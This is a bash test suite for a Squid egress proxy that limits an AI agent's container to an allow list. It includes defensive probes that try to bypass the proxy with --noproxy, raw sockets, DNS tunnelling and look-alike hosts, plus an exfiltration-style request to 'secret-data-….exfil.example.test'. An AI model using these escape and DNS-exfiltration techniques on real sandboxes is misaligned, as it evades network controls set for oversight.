#!/usr/bin/env bash
# The egress proxy (docker/egress) on the real engine, offline: two HTTP servers in containers on an
# upstream network under the names allowed.test and denied.test, the proxy on that network and on
# an --internal one with a policy rendered by the backend's code, and a client on the internal
# network only, which tries what an agent could: the allowed host, others, other ports, IP and CIDR
# entries, and every way around the proxy. Prints the proxy's memory and the latency it adds.
#   egress_proxy_test.sh REPO RENDER_EGRESS_CONF
set -euo pipefail
repo="$1"
render="$2"
source "$repo/tests/docker/deploy/deploy_test_support.sh"
require_engine

image="execmcp/egress:test"
build_image --egress -t "$image"
build_image --runtime
runtime="execmcp/runtime:latest"

p="execmcp-egresstest-$$"
work="$(mktemp -d)"
cleanups+=("rm -rf $work")

# --- Squid accepts what the backend renders for every kind of entry (squid -k parse) ---
"$render" '{"allow": ["pypi.org", "*.npmjs.org", "10.20.0.0/16", "10.21.0.1", "fd00::/8", "2001:db8::1"],
  "ports": [80, 443, 8443]}' agent "$work/all.conf" "$work/all.page" 172.30.0.0/24 fd01::/64 ||
  die "rendering the policy failed"
if out="$(docker run --rm --read-only --tmpfs /tmp --cap-drop ALL -e "EXECMCP_EGRESS_CONF=$(cat "$work/all.conf")" \
  -e "EXECMCP_EGRESS_ERROR_PAGE=$(cat "$work/all.page")" "$image" --check 2>&1)"; then
  pass "squid -k parse accepts a config with every kind of entry"
else
  fail "squid -k parse refused the rendered config: $out"
fi
grep -E 'ERROR|WARNING' <<<"$out" | grep -v 'BCP 177' && fail "squid -k parse warned (above)" || true

# --- networks: the upstream side and the agent's internal one, both without a way out of this
# machine (--internal), so nothing here can reach beyond the engine's own bridges ---
docker network create --internal --label "$p" "$p-up" >/dev/null
cleanups+=("docker network rm $p-up")
docker network create --internal --label "$p" "$p-int" >/dev/null
cleanups+=("docker network rm $p-int")
cleanups+=("docker ps -aq --filter label=$p | xargs -r docker rm -f")
int_subnet="$(docker network inspect -f '{{range .IPAM.Config}}{{.Subnet}}{{end}}' "$p-int")"

# Two servers of /etc on port 80 (the default ports are 80 and 443): /hostname tells which one
# answered. allowed.test is also cidr.test and api.wild.test; both are mixed.test (a name with one
# allowed and one foreign address); denied.test is also wild.test (the bare name of *.wild.test).
serve() {
  local name="$1"
  shift
  local aliases=()
  for a in "$@"; do aliases+=(--network-alias "$a"); done
  docker run -d --name "$p-$name" --label "$p" --network "$p-up" "${aliases[@]}" --read-only \
    --cap-drop ALL --security-opt no-new-privileges "$runtime" \
    python3 -m http.server 80 --directory /etc >/dev/null
}
serve allowed allowed.test cidr.test api.wild.test mixed.test
serve denied denied.test wild.test mixed.test
# A package index, pypi.test: one wheel made on the spot (a zip with its metadata), served as a
# PEP 503 simple index, for `pip install` through the proxy.
cat >"$work/make_index.py" <<'PY'
import base64, hashlib, os, zipfile
root = "/tmp/srv/simple/egress-demo"
os.makedirs(root)
name = "egress_demo-1.0-py3-none-any.whl"
info = "egress_demo-1.0.dist-info"
files = {
    "egress_demo/__init__.py": b'VALUE = "installed through the egress proxy"\n',
    info + "/METADATA": b"Metadata-Version: 2.1\nName: egress-demo\nVersion: 1.0\n",
    info + "/WHEEL": b"Wheel-Version: 1.0\nGenerator: execmcp-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = []
for path, data in files.items():
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    record.append(f"{path},sha256={digest},{len(data)}")
record.append(info + "/RECORD,,")
with zipfile.ZipFile(f"{root}/{name}", "w") as wheel:
    for path, data in files.items():
        wheel.writestr(path, data)
    wheel.writestr(info + "/RECORD", "\n".join(record) + "\n")
with open(f"{root}/index.html", "w") as f:
    f.write(f'<a href="{name}">{name}</a>\n')
with open("/tmp/srv/simple/index.html", "w") as f:
    f.write('<a href="egress-demo/">egress-demo</a>\n')
PY
docker run -d --name "$p-pypi" --label "$p" --network "$p-up" --network-alias pypi.test --read-only \
  --tmpfs /tmp --cap-drop ALL --security-opt no-new-privileges -e "MAKE_INDEX=$(cat "$work/make_index.py")" \
  "$runtime" sh -c 'python3 -c "$MAKE_INDEX" && exec python3 -m http.server 80 --directory /tmp/srv' >/dev/null
# An HTTPS server, tls.test, with a certificate made on the spot: through a CONNECT tunnel the
# client must see this very certificate (no interception).
docker run -d --name "$p-tls" --label "$p" --network "$p-up" --network-alias tls.test --read-only \
  --tmpfs /tmp --cap-drop ALL --security-opt no-new-privileges "$runtime" sh -c '
    openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/key -out /tmp/cert -days 1 \
      -subj /CN=tls.test -addext subjectAltName=DNS:tls.test 2>/dev/null &&
    openssl x509 -in /tmp/cert -noout -fingerprint -sha256 && cd /etc &&
    exec python3 -c "
import http.server, ssl
server = http.server.HTTPServer((\"\", 443), http.server.SimpleHTTPRequestHandler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(\"/tmp/cert\", \"/tmp/key\")
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()"' >/dev/null
ip_on() { docker inspect -f "{{(index .NetworkSettings.Networks \"$2\").IPAddress}}" "$1"; }
allowed_ip="$(ip_on "$p-allowed" "$p-up")"
denied_ip="$(ip_on "$p-denied" "$p-up")"
allowed_host="$(docker inspect -f '{{.Config.Hostname}}' "$p-allowed")"

# A DNS server that answers nothing and counts the queries it gets: the proxies forward the names
# Docker's resolver does not know to it (--dns), and the DNS tunnelling check below asks it too.
dns_queries() { docker logs "$p-dns" 2>&1 | grep -c query || true; }
docker run -d --name "$p-dns" --label "$p" --network "$p-up" "$runtime" python3 -u -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 53))
while True:
    s.recvfrom(2048)
    print("query", flush=True)' >/dev/null
dns_ip="$(ip_on "$p-dns" "$p-up")"
sleep 0.5

# --- the proxy: the policy rendered by egress_policy.cpp, served to the internal network only ---
policy="{\"allow\": [\"allowed.test\", \"pypi.test\", \"tls.test\", \"*.wild.test\", \"$allowed_ip/32\"]}"
"$render" "$policy" "agent-$$" "$work/squid.conf" "$work/page" "$int_subnet" ||
  die "rendering the policy failed"
proxy="$p-proxy"
docker create --name "$proxy" --label "$p" --network "$p-int" --dns "$dns_ip" --read-only --tmpfs /tmp:size=8m \
  --cap-drop ALL --security-opt no-new-privileges --memory 128m --pids-limit 64 \
  -e "EXECMCP_EGRESS_CONF=$(cat "$work/squid.conf")" -e "EXECMCP_EGRESS_ERROR_PAGE=$(cat "$work/page")" \
  "$image" >/dev/null
docker network connect "$p-up" "$proxy"
# The agent reaches the proxy by its container name, which the internal network's resolver
# answers (it knows the names on that network and nothing else).
proxy_url="http://$proxy:3128"

# The client: an agent's container, on the internal network only.
client() {
  docker run --rm --label "$p" --network "$p-int" --read-only --tmpfs /tmp --cap-drop ALL \
    --security-opt no-new-privileges "$runtime" sh -c "$1"
}
# Startup time: a client already running polls every 10 ms and prints when the first request
# through the proxy succeeded, so the time excludes the client's own start.
docker run -d --name "$p-poll" --label "$p" --network "$p-int" "$runtime" sh -c \
  "for i in \$(seq 1000); do curl -s -o /dev/null --max-time 1 -x $proxy_url http://allowed.test/hostname && { date +%s%3N; exit 0; }; sleep 0.01; done; exit 1" >/dev/null
sleep 0.5
start_ms=$(date +%s%3N)
docker start "$proxy" >/dev/null
[ "$(docker wait "$p-poll")" = 0 ] ||
  die "the proxy never served allowed.test: $(docker logs "$proxy" 2>&1 | tail -n 20)"
say "proxy startup: docker start to the first request served: $(($(docker logs "$p-poll") - start_ms)) ms"
proxy_ip="$(ip_on "$proxy" "$p-int")"
# The package index and the HTTPS server make their files first: wait for both (20 s at most).
client "for i in \$(seq 200); do curl -sf -o /dev/null -x $proxy_url http://pypi.test/simple/ &&
  curl -sfk -o /dev/null -x $proxy_url https://tls.test/hostname && exit 0; sleep 0.1; done; exit 1" ||
  die "pypi.test or tls.test never answered through the proxy"

# --- every check from one client container: lines "name value" ---
cat >"$work/client.sh" <<EOF
px=$proxy_url
c() { curl -sS --max-time 10 "\$@" 2>/dev/null; }
echo "allowed \$(c -x \$px -w ' %{http_code}' http://allowed.test/hostname | tr -d '\n')"
c -x \$px -o /tmp/denied.body -w 'denied %{http_code}\n' http://denied.test/hostname
echo "denied_body \$(tr '\n' ' ' </tmp/denied.body)"
echo "connect_allowed \$(c -p -x \$px -w ' %{http_connect}' http://allowed.test/hostname | tr -d '\n')"
echo "connect_port \$(c -p -x \$px -o /dev/null -w '%{http_connect}' http://allowed.test:8080/)"
echo "connect_denied \$(c -p -x \$px -o /dev/null -w '%{http_connect}' http://denied.test/)"
echo "plain_port \$(c -x \$px -o /dev/null -w '%{http_code}' http://allowed.test:8080/)"
echo "ip_allowed \$(c -x \$px -o /dev/null -w '%{http_code}' http://$allowed_ip/hostname)"
echo "ip_denied \$(c -x \$px -o /dev/null -w '%{http_code}' http://$denied_ip/hostname)"
echo "cidr_name \$(c -x \$px -o /dev/null -w '%{http_code}' http://cidr.test/hostname)"
for i in 1 2 3; do echo "mixed_name \$(c -x \$px -o /dev/null -w '%{http_code}' http://mixed.test/hostname)"; done
echo "upper_case \$(c -x \$px -o /dev/null -w '%{http_code}' http://ALLOWED.Test/hostname)"
echo "wildcard_sub \$(c -x \$px -o /dev/null -w '%{http_code}' http://api.wild.test/hostname)"
echo "wildcard_bare \$(c -x \$px -o /dev/null -w '%{http_code}' http://wild.test/hostname)"
echo "manager \$(c -x \$px -o /dev/null -w '%{http_code}' http://$proxy_ip:3128/squid-internal-mgr/info)"
echo "manager_direct \$(c -o /dev/null -w '%{http_code}' http://$proxy_ip:3128/squid-internal-mgr/info)"
echo "urllib \$(HTTP_PROXY=\$px python3 -c 'import urllib.request as u; print(u.urlopen("http://allowed.test/hostname").status)' 2>&1 | tail -n 1)"
echo "noproxy \$(curl -sS --noproxy '*' --max-time 5 -o /dev/null -w 'code=%{http_code}' http://allowed.test/hostname 2>&1 | tr '\n' ' ')"
echo "raw_ip \$(curl -sS --connect-timeout 3 -o /dev/null -w 'code=%{http_code}' http://$allowed_ip/hostname 2>&1 | tr '\n' ' ')"
echo "raw_socket \$(timeout 5 python3 -c 'import socket; socket.create_connection(("$allowed_ip", 80), 3); print("connected")' 2>&1 | tail -n 1)"
echo "dns \$(timeout 8 getent hosts allowed.test || echo none)"
echo "https \$(c -k -x \$px -w ' %{http_code}' https://tls.test/hostname | tr -d '\n')"
echo "tls_cert \$(openssl s_client -proxy $proxy:3128 -connect tls.test:443 -servername tls.test </dev/null 2>/dev/null | openssl x509 -noout -fingerprint -sha256 2>&1)"
export HTTP_PROXY=\$px HTTPS_PROXY=\$px PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_NO_CACHE_DIR=1
pip_out="\$(python3 -m pip install --target /tmp/site --index-url http://pypi.test/simple/ \\
  --trusted-host pypi.test egress-demo 2>&1)"
echo "pip_install \$(PYTHONPATH=/tmp/site python3 -c 'import egress_demo; print(egress_demo.VALUE)' 2>&1 || echo "\$pip_out" | tail -n 3 | tr '\n' ' ')"
# pip says only "No matching distribution" unless very verbose, where the 403 shows.
python3 -m pip install -vvv --target /tmp/site2 --index-url http://denied.test/simple/ \\
  --trusted-host denied.test --retries 0 egress-demo >/tmp/pip_denied 2>&1
echo "pip_denied \$(grep -m 1 -o '40[0-9] Client Error[^ ]* [^ ]*' /tmp/pip_denied || tail -n 2 /tmp/pip_denied | tr '\n' ' ')"
EOF
out="$(client "$(cat "$work/client.sh")" 2>&1 || true)"
value() { sed -n "s/^$1 //p" <<<"$out" | head -n 1; }
check() { # check NAME EXPECTED WHAT
  local got
  got="$(value "$1")"
  [ "$got" = "$2" ] && pass "$3" || fail "$3: got '$got', expected '$2'"
}
refusals=0
check allowed "$allowed_host 200" "GET allowed.test through the proxy: 200 from its server"
check denied 403 "GET denied.test through the proxy: 403"
refusals=$((refusals + 1))
body="$(value denied_body)"
[[ "$body" == *"denied.test"* && "$body" == *"not in the egress allow list of agent agent-$$"* ]] &&
  pass "the 403 body names denied.test and the allow list" || fail "the 403 body: '$body'"
check connect_allowed "$allowed_host 200" "CONNECT allowed.test:80: tunnel to its server"
check connect_port 403 "CONNECT allowed.test:8080 (port not listed): 403"
check connect_denied 403 "CONNECT denied.test:80: 403"
check plain_port 403 "GET allowed.test:8080 (port not listed): 403"
refusals=$((refusals + 3))
check ip_allowed 200 "GET the allowed /32 address: 200"
check ip_denied 403 "GET another address on the same network: 403"
check cidr_name 200 "GET cidr.test, a name whose only address is in the /32 entry: 200"
[ "$(sed -n 's/^mixed_name //p' <<<"$out" | sort -u)" = 403 ] &&
  pass "GET mixed.test (one allowed and one foreign address) is refused every time (3 tries)" ||
  fail "mixed.test: $(sed -n 's/^mixed_name //p' <<<"$out" | tr '\n' ' ')"
check upper_case 200 "GET ALLOWED.Test (names match in any case): 200"
check wildcard_sub 200 "GET api.wild.test (allowed by *.wild.test): 200"
check wildcard_bare 403 "GET wild.test (the bare name of *.wild.test): 403"
check manager 403 "the cache manager through the proxy: 403"
check manager_direct 403 "the cache manager asked directly: 403"
refusals=$((refusals + 7))
check urllib 200 "Python's urllib uses HTTP_PROXY unasked: 200"
# A failure says why (curl's message) and shows no HTTP status: code=000.
[[ "$(value noproxy)" == *code=000* ]] && pass "curl --noproxy '*' to allowed.test fails: $(value noproxy)" ||
  fail "curl --noproxy '*' to allowed.test: $(value noproxy)"
[[ "$(value raw_ip)" == *code=000* ]] && pass "curl to the server's IP directly fails: $(value raw_ip)" ||
  fail "curl to the server's IP directly: $(value raw_ip)"
[[ "$(value raw_socket)" != connected ]] && pass "a raw socket to the server's IP fails: $(value raw_socket)" ||
  fail "a raw socket to the server reached it"
check dns none "the client cannot resolve allowed.test (no DNS of its own)"
tls_host="$(docker inspect -f '{{.Config.Hostname}}' "$p-tls")"
check https "$tls_host 200" "HTTPS to tls.test through the proxy (CONNECT to 443): 200 from its server"
server_cert="$(docker logs "$p-tls" 2>/dev/null | grep -m 1 Fingerprint || true)"
[ -n "$server_cert" ] && [ "$(value tls_cert)" = "$server_cert" ] &&
  pass "the client sees tls.test's own certificate through the tunnel (no interception)" ||
  fail "certificate through the proxy '$(value tls_cert)', the server's '$server_cert'"
check pip_install "installed through the egress proxy" "pip installs a package from pypi.test through the proxy"
[[ "$(value pip_denied)" == "403 Client Error: Forbidden"* ]] && pass "pip from denied.test is refused: $(value pip_denied)" ||
  fail "pip from denied.test: '$(value pip_denied)'"
refusals=$((refusals + 1))

# DNS tunnelling: the internal network's resolver must not forward a query to any server, not
# even one the client names and the upstream network can reach (a listener that counts queries).
before="$(dns_queries)"
docker run --rm --label "$p" --network "$p-int" --dns "$dns_ip" "$runtime" \
  sh -c 'timeout 6 getent hosts tunnel.example.test' >/dev/null 2>&1 || true
tunnelled="$(($(dns_queries) - before))"
# The control: the same query from the upstream network reaches the listener.
docker run --rm --label "$p" --network "$p-up" --dns "$dns_ip" "$runtime" \
  sh -c 'timeout 3 getent hosts control.example.test' >/dev/null 2>&1 || true
control="$(($(dns_queries) - before - tunnelled))"
[ "$tunnelled" = 0 ] && [ "$control" -ge 1 ] &&
  pass "DNS: the internal client's query reached no server (the control's reached it $control times)" ||
  fail "DNS: the internal client's queries reached the listener $tunnelled times (control: $control)"

# A container on the upstream network may not use the proxy (the policy serves $int_subnet).
code="$(docker run --rm --label "$p" --network "$p-up" "$runtime" curl -s -o /dev/null \
  -w '%{http_code}' -x "http://$(ip_on "$proxy" "$p-up"):3128" http://allowed.test/hostname || true)"
[ "$code" = 403 ] && pass "a client outside the agent's network is refused: 403" ||
  fail "a client outside the agent's network got $code"
refusals=$((refusals + 1))

# --- a refused name is not looked up: no data leaves through the proxy's resolver ---
# A second proxy whose list holds names only; both forward unknown names to the counting server.
"$render" '{"allow": ["allowed.test"]}' "names-$$" "$work/names.conf" "$work/names.page" ||
  die "rendering the names-only policy failed"
docker run -d --name "$p-names" --label "$p" --network "$p-int" --dns "$dns_ip" --read-only \
  --tmpfs /tmp:size=8m --cap-drop ALL --security-opt no-new-privileges \
  -e "EXECMCP_EGRESS_CONF=$(cat "$work/names.conf")" -e "EXECMCP_EGRESS_ERROR_PAGE=$(cat "$work/names.page")" \
  "$image" >/dev/null
docker network connect "$p-up" "$p-names"
exfil() { # exfil PROXY NAME: prints the status and the time in ms
  client "curl -s -o /dev/null --max-time 5 -w '%{http_code} %{time_total}' -x http://$1:3128 http://$2/ | awk '{printf \"%s %d\", \$1, \$2 * 1000}'"
}
for _ in $(seq 50); do
  [ "$(client "curl -s -o /dev/null -w '%{http_code}' -x http://$p-names:3128 http://allowed.test/hostname" || true)" = 200 ] && break
  sleep 0.1
done
before="$(dns_queries)"
read -r code ms <<<"$(exfil "$p-names" "secret-data-$$.exfil.example.test")"
after="$(dns_queries)"
[ "$code" = 403 ] && [ "$after" = "$before" ] &&
  pass "names-only list: a refused name gets 403 in $ms ms and is never looked up" ||
  fail "names-only list: a refused name got $code in $ms ms, $((after - before)) lookups reached the resolver"
# (Names that are not in the list are refused here at once: the main proxy's list holds an address
# entry, so it looks them up first, and the counting resolver never answers.)
for name in sub.allowed.test allowed.test.evil.test allowed.tes; do
  read -r code ms <<<"$(exfil "$p-names" "$name")"
  [ "$code" = 403 ] && pass "GET $name with allowed.test in the list: 403" ||
    fail "GET $name with allowed.test in the list: $code"
done
before="$(dns_queries)"
read -r code ms <<<"$(exfil "$proxy" "secret-data-$$.exfil.example.test")"
sleep 0.5
after="$(dns_queries)"
# Documented: with an address entry every name is looked up, to compare its addresses.
[ "$after" -gt "$before" ] &&
  pass "a list with an address entry looks a refused name up (documented): $((after - before)) queries, HTTP $code after $ms ms" ||
  fail "a list with an address entry did not look the name up (update docker-backend.md)"

# --- the proxy process: unprivileged, without capabilities ---
status="$(docker exec "$proxy" cat /proc/1/status)"
grep -Eq '^Uid:[[:space:]]+13[[:space:]]' <<<"$status" && pass "squid runs as proxy (uid 13)" ||
  fail "squid's uid: $(grep '^Uid' <<<"$status")"
grep -Eq '^CapEff:[[:space:]]+0+$' <<<"$status" && grep -Eq '^CapBnd:[[:space:]]+0+$' <<<"$status" &&
  pass "squid holds no capabilities" || fail "squid's capabilities: $(grep '^Cap' <<<"$status")"
# The agent has no way to the proxy's files at all (another container); inside it, the config is
# on a tmpfs, mode 0400 in a 0500 directory, and the rest of the filesystem is read-only.
if docker exec "$proxy" sh -c 'echo x >/tmp/execmcp-egress/squid.conf || echo x >/etc/squid/x' 2>/dev/null; then
  fail "the proxy could write its config or its image's files"
else
  pass "the proxy cannot write its config (0400) nor its image's files (read-only rootfs)"
fi

# --- the log: one parseable line per refusal, naming the host ---
# (Without the lookup test's request, which Squid ends when the lookup does.)
records="$(docker logs "$proxy" 2>/dev/null | "$render" --read-log | grep -v '\.exfil\.example\.test ' || true)"
refused_lines="$(grep -c ' refused$' <<<"$records" || true)"
[ "$refused_lines" = "$refusals" ] && pass "the log has one refusal record per refusal ($refusals)" ||
  fail "refusal records: $refused_lines, refusals made: $refusals; records: $records"
grep -q '^denied.test 80 403 refused$' <<<"$records" && pass "the refusal of denied.test is logged as such" ||
  fail "no record 'denied.test 80 403 refused' in: $records"
grep -q '^allowed.test 8080 403 refused$' <<<"$records" && pass "the refused CONNECT port is logged" ||
  fail "no record 'allowed.test 8080 403 refused' in: $records"

# --- numbers: memory idle and after 100 requests; latency through the proxy against direct ---
mem() {
  local rss usage
  rss="$(docker exec "$proxy" sh -c "awk '/^VmRSS/ {print \$2}' /proc/1/status")"
  pss="$(docker exec "$proxy" sh -c "awk '/^Pss:/ {print \$2}' /proc/1/smaps_rollup")"
  usage="$(docker exec "$proxy" cat /sys/fs/cgroup/memory/memory.usage_in_bytes 2>/dev/null ||
    docker exec "$proxy" cat /sys/fs/cgroup/memory.current 2>/dev/null || echo 0)"
  echo "squid RSS $((rss / 1024)) MiB (PSS $((pss / 1024)) MiB), container cgroup $((usage / 1048576)) MiB ($(docker stats --no-stream --format '{{.MemUsage}}' "$proxy"))"
}
say "memory idle: $(mem)"
client "for i in \$(seq 100); do curl -s -o /dev/null -x $proxy_url http://allowed.test/hostname; done"
say "memory after 100 requests: $(mem)"

# 20 small GETs each way from one container: through the proxy from the internal network, and
# straight from a container on the upstream network (as from `bridge`); p50 and p90 in ms.
# shellcheck disable=SC2016 # expanded by the sh of the container that runs it
timing='for i in $(seq 21); do curl -s -o /dev/null -w "%{time_total}\n" "$@" http://allowed.test/hostname; done | tail -n 20 | sort -n | awk "{a[NR]=\$1*1000} END {printf \"%.2f %.2f\", a[10], a[18]}"'
via="$(client "set -- -x $proxy_url; $timing")"
direct="$(docker run --rm --label "$p" --network "$p-up" "$runtime" sh -c "set --; $timing")"
# The same by address (--resolve), without the engine's DNS in each direct request.
by_ip="$(docker run --rm --label "$p" --network "$p-up" "$runtime" sh -c \
  "set -- --resolve allowed.test:80:$allowed_ip; $timing")"
read -r via50 via90 <<<"$via"
read -r direct50 direct90 <<<"$direct"
read -r ip50 ip90 <<<"$by_ip"
say "curl of a small file, p50/p90 of 20 (ms): through the proxy ${via50}/${via90}, direct ${direct50}/${direct90}, direct without DNS ${ip50}/${ip90}; goal p50 <= 1.5 x direct + 2 = $(awk "BEGIN {printf \"%.2f\", $direct50 * 1.5 + 2}")"

# Stopping: the image's STOPSIGNAL is SIGINT, Squid's immediate shutdown.
stop_start=$(date +%s%3N)
docker stop -t 10 "$proxy" >/dev/null
say "docker stop of the proxy: $(($(date +%s%3N) - stop_start)) ms, exit code $(docker inspect -f '{{.State.ExitCode}}' "$proxy")"

finish
